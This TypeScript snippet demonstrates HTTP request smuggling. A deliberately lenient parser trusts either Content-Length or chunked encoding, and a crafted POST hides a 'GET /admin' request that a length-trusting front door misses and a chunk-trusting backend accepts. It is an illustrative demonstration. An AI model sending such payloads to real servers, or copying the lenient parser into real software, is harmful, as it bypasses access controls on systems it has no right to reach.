// Two lenient servers read the same bytes. Each takes what it knows and
// lets the rest pass, and so they do not see the same requests.

// #region lenient
/** The requests in a text, and nothing is ever wrong with it. */
function requestsIn(text: string, trusts: 'length' | 'chunks'): string[] {
  const found: string[] = []
  while (text !== '') {
    const end = text.indexOf('\r\n\r\n') + 4
    const head = text.slice(0, end)
    text = text.slice(end)
    found.push(head.slice(0, head.indexOf(' HTTP')))
    const length = /^content-length: (\d+)/im.exec(head)?.[1]
    const isChunked = /^transfer-encoding: chunked/im.test(head)
    if (isChunked && trusts === 'chunks')
      text = text.slice(text.indexOf('0\r\n\r\n') + 5)
    else text = text.slice(Number(length ?? 0))
  }
  return found
}
// #endregion lenient

// #region attack
const hidden = ['0', '', 'GET /admin HTTP/1.1', 'Host: shop', '', ''].join(
  '\r\n',
)
const attack = [
  'POST /search HTTP/1.1',
  'Host: shop',
  `Content-Length: ${hidden.length}`,
  'Transfer-Encoding: chunked',
  '',
  hidden,
].join('\r\n')

const seenAtTheDoor = requestsIn(attack, 'length')
const isAllowed = !seenAtTheDoor.includes('GET /admin')
console.log('the door sees', seenAtTheDoor)
console.log('it lets them in:', isAllowed)
console.log('the shop sees', requestsIn(attack, 'chunks'))
// #endregion attack
